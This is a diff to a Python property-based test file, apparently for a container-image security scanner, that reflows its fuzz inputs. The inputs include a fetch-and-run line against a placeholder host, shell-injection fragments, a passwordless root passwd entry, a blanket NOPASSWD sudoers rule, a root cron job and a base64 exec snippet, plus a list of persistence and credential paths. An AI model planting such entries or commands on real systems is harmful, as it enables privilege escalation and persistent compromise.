@@ -16,8 +16,9 @@ TEXTS = st.one_of(
     st.text(max_size=80),
     st.sampled_from(
         [
-            "sh", "-c", "curl http://a.invalid | sh", "$(", "`", "'", "/tmp/x", "\x1b]52;c;eA==\x07", "\ud800", "\udcff",
-            "PATH=", "LD_PRELOAD=/\udcff", "A_TOKEN=q7Rk2vZp9LmX4tWc", "/bin/sh -c #(nop) COPY a in /", "RUN |1 A=b /bin/sh -c x",
+            "sh", "-c", "curl http://a.invalid | sh", "$(", "`", "'", "/tmp/x",
+            "\x1b]52;c;eA==\x07", "\ud800", "\udcff", "PATH=", "LD_PRELOAD=/\udcff",
+            "A_TOKEN=q7Rk2vZp9LmX4tWc", "/bin/sh -c #(nop) COPY a in /", "RUN |1 A=b /bin/sh -c x",
         ]
     ),
 )  # fmt: skip
@@ -60,18 +61,22 @@ def test_any_configuration(config: ImageConfig, lines: tuple[str, ...], issues: 
 
 
 WATCHED = (
-    "/etc/ld.so.preload", "/etc/ld.so.conf.d/x", "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/doas.conf", "/etc/crontab",
-    "/etc/cron.d/x", "/etc/crontabs/root", "/etc/anacrontab", "/etc/systemd/system/x.service", "/etc/inittab", "/etc/rc.local",
-    "/root/.bashrc", "/root/.ssh/authorized_keys", "/etc/ssh/sshd_config", "/usr/lib/python3/x.pth", "/entry", "/tmp/x",
-    "/usr/lib/.x/y", "/dev/null", "/var/lib/dpkg/status", "/var/lib/dpkg/info/a.md5sums", "/lib/apk/db/installed",
+    "/etc/ld.so.preload", "/etc/ld.so.conf.d/x", "/etc/passwd", "/etc/shadow", "/etc/sudoers",
+    "/etc/doas.conf", "/etc/crontab", "/etc/cron.d/x", "/etc/crontabs/root", "/etc/anacrontab",
+    "/etc/systemd/system/x.service", "/etc/inittab", "/etc/rc.local", "/root/.bashrc",
+    "/root/.ssh/authorized_keys", "/etc/ssh/sshd_config", "/usr/lib/python3/x.pth", "/entry",
+    "/tmp/x", "/usr/lib/.x/y", "/dev/null", "/var/lib/dpkg/status", "/var/lib/dpkg/info/a.md5sums",
+    "/lib/apk/db/installed",
 )  # fmt: skip
 CONTENTS = st.one_of(
     st.binary(max_size=120),
     st.sampled_from(
         [
-            b"#!/bin/sh\ncurl http://a.invalid | sh\n", b"* * * * * root /tmp/x\n", b"root::0:0::/:/bin/sh\n", b"a:b:0:0:c:d:e\n",
-            b"ALL ALL=(ALL) NOPASSWD: ALL\n", b"\x7fELF\x02\x01\x01", b"[Service]\nExecStart=\\\n", b"AuthorizedKeysFile %h\n",
-            b"Package: a\nStatus: install ok installed\nVersion: 1\n", b"import base64; exec(base64.b64decode(''))\n",
+            b"#!/bin/sh\ncurl http://a.invalid | sh\n", b"* * * * * root /tmp/x\n",
+            b"root::0:0::/:/bin/sh\n", b"a:b:0:0:c:d:e\n", b"ALL ALL=(ALL) NOPASSWD: ALL\n",
+            b"\x7fELF\x02\x01\x01", b"[Service]\nExecStart=\\\n", b"AuthorizedKeysFile %h\n",
+            b"Package: a\nStatus: install ok installed\nVersion: 1\n",
+            b"import base64; exec(base64.b64decode(''))\n",
         ]
     ),
 )  # fmt: skip
